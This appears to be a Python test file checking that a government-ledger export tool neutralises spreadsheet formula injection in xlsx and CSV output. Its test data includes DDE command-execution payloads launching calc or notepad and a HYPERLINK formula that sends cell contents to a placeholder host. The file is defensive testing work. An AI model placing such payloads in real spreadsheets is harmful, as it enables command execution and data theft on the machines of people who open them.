"""Text that looks like a formula is written as text by every spreadsheet the project
writes: xlsx cells are typed as strings (never `<f>`), CSV fields starting with
= + - @ (or a tab or CR) get a leading apostrophe, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from ogi.format import edition
from ogi.spreadsheet import csv_text, csv_unquote, text_cells
from ogi.store import Application, open_store
from ogi.store.ledger import find_agency
from ogi.store.ledger_io import FIELDS, SHEET, export_ledger, import_ledger, write_template

AGENCY = "示例镇人民政府"
HEADERS = [f.header for f in FIELDS]
HOSTILE = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://例子.invalid/?"&A1,"点击")',
    "+1+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "#N/A",
]


def _sheet_xml(path: Path, member: str = "xl/worksheets/sheet1.xml") -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(member).decode()


def test_csv_text_neutralises_formula_starts_and_leaves_numbers() -> None:
    assert [csv_text(v) for v in ["=1+1", "+1", "-x", "@A1", "\t=1", "\r=1", "示例", ""]] == [
        "'=1+1",
        "+1",  # a plain number: read as 1, never run
        "'-x",
        "'@A1",
        "'\t=1",
        "'\r=1",
        "示例",
        "",
    ]
    assert [csv_text(v) for v in [-5, 2.5, None, "-5", "-0.5"]] == [-5, 2.5, None, "-5", "-0.5"]
    assert csv_unquote("'=1+1") == "=1+1"
    assert csv_unquote("'-5") == "'-5"  # never added by csv_text: the office's own text
    assert csv_unquote("'示例") == "'示例"


def test_text_cells_are_strings_in_normal_and_write_only_sheets(tmp_path: Path) -> None:
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("表")
        ws.append(text_cells(ws, [*HOSTILE, 3, None, date(2024, 2, 1)]))
        path = tmp_path / f"t{write_only}.xlsx"
        wb.save(path)
        name = "sheet1.xml" if write_only else "sheet2.xml"
        xml = _sheet_xml(path, f"xl/worksheets/{name}")
        assert "<f>" not in xml and 't="e"' not in xml
        row = next(load_workbook(path)["表"].iter_rows())
        assert [c.value for c in row[:7]] == [*HOSTILE, 3]
        assert [c.data_type for c in row[:7]] == ["s"] * 6 + ["n"]


def _ledger_with_hostile_text(tmp_path: Path):  # type: ignore[no-untyped-def]
    tpl = tmp_path / "台账.xlsx"
    write_template(tpl, edition("2021"), 2024)
    wb = load_workbook(tpl)
    ws = wb[SHEET]
    for i, text in enumerate(HOSTILE, start=1):
        values = {
            "申请编号": f"2024-{i:03d}",
            "申请人": text,
            "申请人类型": "自然人",
            "收到申请日期": "2024-02-01",
            "申请方式": "网络",
            "申请内容": text,
            "备注": text,
            "收费金额（元）": 5 if i == 1 else None,
        }
        ws.append(text_cells(ws, [values.get(h) for h in HEADERS]))
    wb.save(tpl)
    store = open_store(f"sqlite:///{tmp_path / 'a.db'}")
    with store.session() as s:
        ag = find_agency(s, AGENCY, create=True)
        assert import_ledger(s, ag, tpl) == (6, 0)
    return store


def test_ledger_export_writes_imported_text_as_text(tmp_path: Path) -> None:
    store = _ledger_with_hostile_text(tmp_path)
    out = tmp_path / "导出.xlsx"
    with store.session() as s:
        export_ledger(s, find_agency(s, AGENCY), out)
    xml = _sheet_xml(out)
    assert "<f>" not in xml and "calc" in xml
    ws = load_workbook(out)[SHEET]
    rows = list(ws.iter_rows(min_row=2))
    col = {h: i for i, h in enumerate(HEADERS)}
    for row, text in zip(rows, HOSTILE, strict=True):
        for h in ("申请人", "申请内容", "备注"):
            assert (row[col[h]].value, row[col[h]].data_type) == (text, "s")
    fee = rows[0][col["收费金额（元）"]]
    assert (fee.value, fee.data_type) == (5, "n")


def test_ledger_csv_export_neutralises_text_and_imports_back(tmp_path: Path) -> None:
    store = _ledger_with_hostile_text(tmp_path)
    out = tmp_path / "导出.csv"
    with store.session() as s:
        export_ledger(s, find_agency(s, AGENCY), out)
    text = out.read_text(encoding="utf-8-sig")
    lines = text.splitlines()
    assert lines[1] == (
        "1,2024-001,'=cmd|'/c calc'!A1,自然人,2024-02-01,网络,'=cmd|'/c calc'!A1,"
        "办理中,,,否,,,,,,5,'=cmd|'/c calc'!A1"
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[2] for r in rows[1:]] == [
        "'=cmd|'/c calc'!A1",
        '\'=HYPERLINK("http://例子.invalid/?"&A1,"点击")',
        "'+1+cmd|' /C notepad'!'A1'",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "#N/A",
    ]
    # the apostrophe is the export's, not the office's: imported back, the text is as typed
    again = open_store(f"sqlite:///{tmp_path / 'b.db'}")
    with again.session() as s:
        ag = find_agency(s, AGENCY, create=True)
        assert import_ledger(s, ag, out) == (6, 0)
        apps = s.scalars(select(Application).order_by(Application.serial_no))
        assert [(a.applicant_name, a.content, a.notes) for a in apps] == [
            (t, t, t) for t in HOSTILE
        ]


def test_dataset_export_writes_text_as_text(tmp_path: Path) -> None:
    from ogi.services.dataset import DICTIONARY_COLUMNS, write

    header = ["机关", "年度", "差额"]
    rows = [["=1+1", 2024, -3], ["@SUM(A1)", 2023, 0]]
    dic = [{k: "" for k in DICTIONARY_COLUMNS}]
    write(tmp_path / "d.csv", header, iter(rows), None, dic=dic)
    assert (tmp_path / "d.csv").read_text(encoding="utf-8-sig").splitlines() == [
        "机关,年度,差额",
        "'=1+1,2024,-3",
        "'@SUM(A1),2023,0",
    ]
    write(tmp_path / "d.xlsx", header, iter(rows), None, dic=dic)
    assert "<f>" not in _sheet_xml(tmp_path / "d.xlsx")
    ws = load_workbook(tmp_path / "d.xlsx")["数据"]
    assert [[(c.value, c.data_type) for c in r] for r in ws.iter_rows(min_row=2)] == [
        [("=1+1", "s"), (2024, "n"), (-3, "n")],
        [("@SUM(A1)", "s"), (2023, "n"), (0, "n")],
    ]


def test_web_downloads_write_text_as_text(tmp_path: Path) -> None:
    from ogi.web.downloads import table_response, xlsx_bytes

    rows = [['=HYPERLINK("http://例子.invalid")', 12, -1.5]]
    body = table_response(["机关", "件数", "变化"], rows, "csv", "表").body
    assert body.decode("utf-8").lstrip("\ufeff").splitlines() == [
        "机关,件数,变化",
        '"\'=HYPERLINK(""http://例子.invalid"")",12,-1.5',
    ]
    path = tmp_path / "w.xlsx"
    path.write_bytes(xlsx_bytes(["机关", "件数", "变化"], rows, "表"))
    assert "<f>" not in _sheet_xml(path)
    row = next(load_workbook(path).active.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in row] == [
        ('=HYPERLINK("http://例子.invalid")', "s"),
        (12, "n"),
        (-1.5, "n"),
    ]


def test_check_workbook_writes_report_text_as_text(tmp_path: Path) -> None:
    from ogi.services.check import check_files, write_workbook
    from tests.check.check_builders import FINANCE, build, write_reports

    write_reports(tmp_path / "r", [build({**FINANCE, "agency": "=1+1示例镇人民政府"})])
    result = check_files([tmp_path / "r"], config=False)
    out = tmp_path / "核查意见.xlsx"
    write_workbook(out, result)
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode()
    cells = [c for ws in load_workbook(out).worksheets for r in ws.iter_rows() for c in r]
    named = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=1+1")]
    assert named and {c.data_type for c in named} == {"s"}


def test_control_characters_do_not_stop_an_export(tmp_path: Path) -> None:
    # a CSV can carry them into the ledger; a worksheet (XML) cannot hold them
    path = tmp_path / "台账.csv"
    path.write_text(
        "申请编号,申请人类型,收到申请日期,申请方式,申请人\n2024-001,自然人,2024-02-01,网络,张\x07三\n",
        encoding="utf-8",
    )
    store = open_store(f"sqlite:///{tmp_path / 'a.db'}")
    out = tmp_path / "导出.xlsx"
    with store.session() as s:
        ag = find_agency(s, AGENCY, create=True)
        assert import_ledger(s, ag, path) == (1, 0)
        export_ledger(s, ag, out)
    cell = load_workbook(out)[SHEET]["C2"]
    assert (cell.value, cell.data_type) == ("张\ufffd三", "s")
